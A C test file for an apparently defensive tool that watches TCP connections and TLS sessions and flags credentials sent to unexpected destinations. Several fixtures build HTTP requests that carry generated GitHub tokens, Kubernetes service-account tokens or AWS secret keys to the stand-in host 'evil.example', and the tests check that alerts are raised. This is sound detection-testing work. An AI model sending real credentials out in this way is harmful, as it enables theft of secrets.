// SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
/*
 * events/connections: TCP connections and TLS sessions, each one matcher stream; what a
 * credential sent (or received) on one says, and how connections end.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "detect/fingerprint.h"
#include "events/connections.h"
#include "jsoncheck.h"
#include "test.h"
#include "testutil.h"

struct cfx {
	const struct cw_ruleset *rs;
	struct cw_matcher *m;
	struct cw_fp_key key;
	char dir[256];
	char *out;
	size_t outlen;
	FILE *f;
	struct cw_finding_writer fd;
	struct cw_conns c;
	struct cw_event ev;
	char payload[4096];
};

/* apis: where the API server is, for '@kubernetes-apiserver' (NULL: by name only). */
static bool cfx_setup_apis(struct cfx *x, struct cw_apiservers *apis)
{
	char err[1024];

	memset(x, 0, sizeof(*x));
	if (tu_embedded(&x->rs, &x->m, err, sizeof(err)) || tu_mkdtemp(x->dir, sizeof(x->dir))) {
		cw_test_fail(__FILE__, __LINE__, "setup: %s", err);
		return false;
	}
	if (tu_key_in(x->dir, &x->key, err, sizeof(err)))
		return false;
	x->f = open_memstream(&x->out, &x->outlen);
	if (!x->f || cw_finding_writer_init(&x->fd, &x->key, x->f, true))
		return false;
	return cw_conns_init(
		       &x->c,
		       &(struct cw_handler_deps){ .f = &x->fd, .matcher = x->m, .apis = apis },
		       &(struct cw_conns_kernel){ -1, -1, -1, NULL }) == 0;
}

static bool cfx_setup(struct cfx *x)
{
	return cfx_setup_apis(x, NULL);
}

static void cfx_teardown(struct cfx *x)
{
	cw_conns_free(&x->c);
	cw_finding_writer_free(&x->fd);
	fclose(x->f);
	free(x->out);
	tu_rmtree(x->dir);
}

static void connect_to(struct cfx *x, uint32_t pid, uint32_t fd, uint64_t id, uint8_t ip4,
		       uint64_t ktime)
{
	struct cw_conn_event *ce = &x->ev.conn;

	memset(&x->ev, 0, sizeof(x->ev));
	x->ev.type = CW_EV_CONN;
	ce->hdr.type = CW_EV_CONN;
	ce->hdr.ktime_ns = ktime;
	ce->pid = pid;
	ce->fd = fd;
	ce->uid = 1000;
	ce->conn.id = id;
	ce->conn.family = 2;
	ce->conn.daddr[0] = 10;
	ce->conn.daddr[3] = ip4;
	ce->conn.dport = 443;
	memcpy(ce->comm, "client", 6);
	CHECK_EQ_INT(cw_conns_conn(&x->c, &x->ev), 0);
}

/* A chunk a process sent: source CW_SRC_TCP (conn_id: the connection) or a TLS library's
 * (conn_id: the session object). */
static int send_bytes(struct cfx *x, uint16_t source, uint32_t pid, uint32_t fd, uint64_t conn_id,
		      const char *text, uint16_t flags, uint64_t ktime)
{
	struct cw_data_event *d = &x->ev.data;
	size_t n = strlen(text);

	memset(&x->ev, 0, sizeof(x->ev));
	x->ev.type = CW_EV_DATA;
	d->hdr.type = CW_EV_DATA;
	d->hdr.ktime_ns = ktime;
	d->pid = pid;
	d->fd = fd;
	d->uid = 1000;
	d->conn_id = conn_id;
	d->len = (uint32_t)n;
	d->total = n;
	d->source = source;
	d->flags = flags;
	memcpy(d->comm, "client", 6);
	memcpy(x->payload, text, n);
	x->ev.payload = x->payload;
	return cw_conns_data(&x->c, &x->ev);
}

static int bind_session(struct cfx *x, uint32_t pid, uint32_t fd, uint64_t key, uint64_t conn_id)
{
	memset(&x->ev, 0, sizeof(x->ev));
	x->ev.type = CW_EV_BIND;
	x->ev.bind.hdr.type = CW_EV_BIND;
	x->ev.bind.pid = pid;
	x->ev.bind.fd = fd;
	x->ev.bind.source = CW_SRC_OPENSSL;
	x->ev.bind.key = key;
	x->ev.bind.conn_id = conn_id;
	return cw_conns_bind(&x->c, &x->ev);
}

/* The output's lines, parsed; *n of them. Free with free_lines. */
static struct jc_node **lines(struct cfx *x, size_t *n)
{
	struct jc_node **v = NULL;
	char err[256];
	size_t cap = 0;

	fflush(x->f);
	*n = 0;
	for (char *p = x->out, *nl; p && *p; p = nl + 1) {
		nl = strchr(p, '\n');
		if (!nl)
			break;
		if (*n == cap) {
			cap = cap ? cap * 2 : 8;
			v = realloc(v, cap * sizeof(*v));
		}
		v[*n] = jc_parse(p, (size_t)(nl - p), err, sizeof(err));
		if (!v[*n])
			cw_test_fail(__FILE__, __LINE__, "invalid line: %s", err);
		else
			(*n)++;
	}
	return v;
}

static void free_lines(struct jc_node **v, size_t n)
{
	for (size_t i = 0; i < n; i++)
		jc_free(v[i]);
	free(v);
}

static char *http_request(const char *host, const char *token)
{
	static char buf[1024];

	snprintf(buf, sizeof(buf), "GET / HTTP/1.1\r\nHost: %s\r\nAuthorization: token %s\r\n\r\n",
		 host, token);
	return buf;
}

TEST(conns_plaintext_destination_judged_by_the_rule)
{
	struct cfx x;
	char *tok = tu_github_token();
	struct jc_node **v;
	size_t n;

	REQUIRE(cfx_setup(&x));
	connect_to(&x, 100, 5, 11, 7, 1000);
	connect_to(&x, 100, 6, 12, 8, 1001);
	CHECK_EQ_INT(x.c.nconns, 2);
	CHECK_EQ_INT(
		send_bytes(&x, CW_SRC_TCP, 100, 5, 11, http_request("evil.example", tok), 0, 2000),
		0);
	/* the same credential again on the same connection: once */
	CHECK_EQ_INT(
		send_bytes(&x, CW_SRC_TCP, 100, 5, 11, http_request("evil.example", tok), 0, 2001),
		0);
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_TCP, 100, 6, 12, http_request("api.github.com", tok), 0,
				2002),
		     0);
	CHECK_EQ_INT(cw_conns_close(&x.c, 100, 5, 11), 0);
	CHECK_EQ_INT(cw_conns_close(&x.c, 100, 6, 12), 0);
	CHECK_EQ_INT(x.c.nconns, 0);
	CHECK_EQ_INT(x.c.conns_seen, 2);
	CHECK_EQ_INT(x.c.unexpected_destination, 1);
	CHECK_EQ_INT(x.c.bytes, 3 * strlen(http_request("evil.example", tok)) + 2);
	v = lines(&x, &n);
	REQUIRE(n == 2);
	CHECK_EQ_STR(jc_str(v[0], "event.action"), "credential-unexpected-destination");
	CHECK_EQ_STR(jc_str(v[0], "event.kind"), "alert");
	CHECK_EQ_STR(jc_str(v[0], "destination.ip"), "10.0.0.7");
	CHECK_EQ_STR(jc_num(v[0], "destination.port"), "443");
	CHECK_EQ_STR(jc_str(v[0], "destination.domain"), "evil.example");
	CHECK_EQ_STR(jc_str(v[0], "network.protocol"), "http");
	CHECK_EQ_STR(jc_str(v[0], "network.direction"), "egress");
	CHECK_EQ_STR(jc_str(v[0], "credwatch.tls.library"), "plaintext");
	CHECK_EQ_STR(jc_num(v[0], "process.pid"), "100");
	CHECK_EQ_STR(jc_str(v[0], "process.name"), "client");
	CHECK_EQ_STR(jc_num(v[0], "credwatch.fd"), "5");
	CHECK_EQ_STR(jc_str(v[1], "event.action"), "credential-sent");
	CHECK_EQ_STR(jc_str(v[1], "event.kind"), "event");
	CHECK_EQ_STR(jc_str(v[1], "destination.domain"), "api.github.com");
	free_lines(v, n);
	cfx_teardown(&x);
	free(tok);
}

TEST(conns_tls_session_held_until_bound_to_its_socket)
{
	struct cfx x;
	char *tok = tu_github_token();
	struct jc_node **v;
	size_t n;

	REQUIRE(cfx_setup(&x));
	connect_to(&x, 200, 9, 21, 9, 1000);
	/* TLS plaintext before the session's socket is known: held */
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_OPENSSL, 200, 0, 0xabc0,
				http_request("api.github.com", tok), 0, 2000),
		     0);
	CHECK_EQ_INT(cw_conns_tick(&x.c, 2000 + 400ull * 1000 * 1000), 0); /* flushed, still held */
	v = lines(&x, &n);
	CHECK_EQ_INT(n, 0);
	free_lines(v, n);
	CHECK_EQ_INT(x.c.nconns, 2);
	/* bound: out, with the socket's destination */
	CHECK_EQ_INT(bind_session(&x, 200, 9, 0xabc0, 21), 0);
	v = lines(&x, &n);
	REQUIRE(n == 1);
	CHECK_EQ_STR(jc_str(v[0], "event.action"), "credential-sent");
	CHECK_EQ_STR(jc_str(v[0], "credwatch.tls.library"), "openssl");
	CHECK_EQ_STR(jc_str(v[0], "destination.ip"), "10.0.0.9");
	CHECK_EQ_STR(jc_str(v[0], "destination.domain"), "api.github.com");
	CHECK_EQ_STR(jc_num(v[0], "credwatch.fd"), "9");
	free_lines(v, n);
	/* the socket closes: the session bound to it ends with it */
	CHECK_EQ_INT(cw_conns_close(&x.c, 200, 9, 21), 0);
	CHECK_EQ_INT(x.c.nconns, 0);
	cfx_teardown(&x);
	free(tok);
}

TEST(conns_tls_session_never_bound_goes_out_after_the_hold)
{
	struct cfx x;
	char *tok = tu_github_token();
	struct jc_node **v;
	size_t n;

	REQUIRE(cfx_setup(&x));
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_GNUTLS, 300, 0, 0x5e55,
				http_request("evil.example", tok), 0, 1000),
		     0);
	CHECK_EQ_INT(cw_conns_tick(&x.c, 1000 + 900ull * 1000 * 1000), 0);
	v = lines(&x, &n);
	CHECK_EQ_INT(n, 0);
	free_lines(v, n);
	CHECK_EQ_INT(cw_conns_tick(&x.c, 1000 + 1100ull * 1000 * 1000), 0);
	v = lines(&x, &n);
	REQUIRE(n == 1);
	CHECK_EQ_STR(jc_str(v[0], "event.action"), "credential-unexpected-destination");
	CHECK_EQ_STR(jc_str(v[0], "credwatch.tls.library"), "gnutls");
	CHECK(jc_get(v[0], "destination.ip") == NULL);
	CHECK_EQ_STR(jc_str(v[0], "destination.domain"), "evil.example");
	free_lines(v, n);
	cfx_teardown(&x);
	free(tok);
}

/*
 * A service-account token sent the way client-go sends it: to $KUBERNETES_SERVICE_HOST, an
 * IP, the Host header that IP. The pod's own service address is its API server; any other
 * address is not. An AWS secret access key is an alert wherever it goes.
 */
TEST(conns_api_server_by_address_and_secrets_never_sent)
{
	static const char env[] = "KUBERNETES_SERVICE_HOST=10.0.0.1\0KUBERNETES_SERVICE_PORT=443\0";
	char *sa = tu_secret("%{gen:k8s-jwt:3600}"), *key = tu_strong("%{base64:40}", 4.2);
	char req[2048];
	struct cw_apiservers *apis;
	struct jc_node **v;
	struct cfx x;
	size_t n;

	REQUIRE(cw_apiservers_new(&(struct cw_apiservers_opts){ .root = "/nonexistent" }, &apis) ==
		0);
	/* the exec of the pod's first process (cgroup 0 here: connect_to's) */
	cw_apiservers_exec_env(apis, 0, env, sizeof(env) - 1);
	REQUIRE(cfx_setup_apis(&x, apis));
	connect_to(&x, 100, 5, 11, 1, 1000);
	connect_to(&x, 100, 6, 12, 9, 1001);
	connect_to(&x, 100, 7, 13, 7, 1002);
	snprintf(req, sizeof(req),
		 "GET /api/v1/pods HTTP/1.1\r\nHost: 10.0.0.1:443\r\nAuthorization: Bearer "
		 "%s\r\n\r\n",
		 sa);
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_TCP, 100, 5, 11, req, 0, 2000), 0);
	snprintf(req, sizeof(req),
		 "GET /api/v1/pods HTTP/1.1\r\nHost: 10.0.0.9\r\nAuthorization: Bearer %s\r\n\r\n",
		 sa);
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_TCP, 100, 6, 12, req, 0, 2001), 0);
	snprintf(req, sizeof(req),
		 "POST /upload HTTP/1.1\r\nHost: s3.amazonaws.com\r\n\r\n"
		 "aws_secret_access_key = %s\n",
		 key);
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_TCP, 100, 7, 13, req, 0, 2002), 0);
	CHECK_EQ_INT(cw_conns_exit(&x.c, 100), 0);
	CHECK_EQ_INT(x.c.unexpected_destination, 2);
	v = lines(&x, &n);
	REQUIRE(n == 3);
	CHECK_EQ_STR(jc_str(v[0], "event.action"), "credential-sent");
	CHECK_EQ_STR(jc_str(v[0], "destination.ip"), "10.0.0.1");
	CHECK_EQ_STR(jc_str(v[0], "rule.id"), "kubernetes-service-account-token");
	CHECK_EQ_STR(jc_str(v[1], "event.action"), "credential-unexpected-destination");
	CHECK_EQ_STR(jc_str(v[1], "destination.domain"), "10.0.0.9");
	CHECK_CONTAINS(jc_str(v[1], "message"), "outside its provider's destinations");
	CHECK_EQ_STR(jc_str(v[2], "event.action"), "credential-unexpected-destination");
	CHECK_EQ_STR(jc_str(v[2], "rule.id"), "aws-secret-access-key");
	CHECK_EQ_STR(jc_str(v[2], "destination.domain"), "s3.amazonaws.com");
	CHECK_CONTAINS(jc_str(v[2], "message"), "never sent");
	free_lines(v, n);
	cfx_teardown(&x);
	cw_apiservers_free(apis);
	free(sa);
	free(key);
}

TEST(conns_inbound_tls_is_observed_not_judged)
{
	struct cfx x;
	char *tok = tu_github_token();
	struct jc_node **v;
	size_t n;

	REQUIRE(cfx_setup(&x));
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_OPENSSL, 400, 0, 0x1b, http_request("evil.example", tok),
				CW_DATA_INBOUND, 1000),
		     0);
	/* the same session object writing: another stream */
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_OPENSSL, 400, 0, 0x1b, "hello", 0, 1001), 0);
	CHECK_EQ_INT(x.c.nconns, 2);
	CHECK_EQ_INT(cw_conns_exit(&x.c, 400), 0);
	CHECK_EQ_INT(x.c.nconns, 0);
	CHECK_EQ_INT(x.c.unexpected_destination, 0);
	v = lines(&x, &n);
	REQUIRE(n == 1);
	CHECK_EQ_STR(jc_str(v[0], "event.action"), "credential-received");
	free_lines(v, n);
	cfx_teardown(&x);
	free(tok);
}

TEST(conns_exit_and_exec_end_what_they_should)
{
	struct cfx x;

	REQUIRE(cfx_setup(&x));
	connect_to(&x, 500, 3, 31, 1, 1000);
	connect_to(&x, 500, 4, 32, 2, 1000);
	connect_to(&x, 501, 3, 33, 3, 1000);
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_OPENSSL, 500, 0, 0x77, "x", 0, 1000), 0);
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_OPENSSL, 501, 0, 0x77, "x", 0, 1000), 0);
	CHECK_EQ_INT(x.c.nconns, 5);
	/* an exec ends the process's TLS sessions (objects of the old image), not its sockets */
	CHECK_EQ_INT(cw_conns_exec(&x.c, 500), 0);
	CHECK_EQ_INT(x.c.nconns, 4);
	/* an exit ends all it had */
	CHECK_EQ_INT(cw_conns_exit(&x.c, 500), 0);
	CHECK_EQ_INT(x.c.nconns, 2);
	CHECK_EQ_INT(cw_conns_exit(&x.c, 501), 0);
	CHECK_EQ_INT(x.c.nconns, 0);
	/* a close of what is not known is nothing */
	CHECK_EQ_INT(cw_conns_close(&x.c, 501, 3, 33), 0);
	CHECK_EQ_INT(x.c.conns_evicted, 0);
	cfx_teardown(&x);
}

TEST(conns_bounded_the_least_recently_active_goes)
{
	struct cfx x;

	REQUIRE(cfx_setup(&x));
	for (uint64_t i = 0; i < CW_CONNS_MAX; i++)
		connect_to(&x, 600, (uint32_t)i, 1000 + i, 1, 5000 + i);
	/* connection 1000 active again: 1001 is the least recently active */
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_TCP, 600, 0, 1000, "x", 0, 900000), 0);
	CHECK_EQ_INT(x.c.nconns, CW_CONNS_MAX);
	CHECK_EQ_INT(x.c.conns_evicted, 0);
	connect_to(&x, 600, 99999, 99999, 1, 900001);
	CHECK_EQ_INT(x.c.nconns, CW_CONNS_MAX);
	CHECK_EQ_INT(x.c.conns_evicted, 1);
	CHECK_EQ_INT(x.c.conns_seen, CW_CONNS_MAX + 1);
	/* 1000 is still there (no new connection made for it), 1001 is not */
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_TCP, 600, 0, 1000, "y", 0, 900002), 0);
	CHECK_EQ_INT(x.c.conns_seen, CW_CONNS_MAX + 1);
	CHECK_EQ_INT(send_bytes(&x, CW_SRC_TCP, 600, 1, 1001, "y", 0, 900003), 0);
	CHECK_EQ_INT(x.c.conns_seen, CW_CONNS_MAX + 2);
	CHECK_EQ_INT(x.c.conns_evicted, 2);
	cfx_teardown(&x);
}
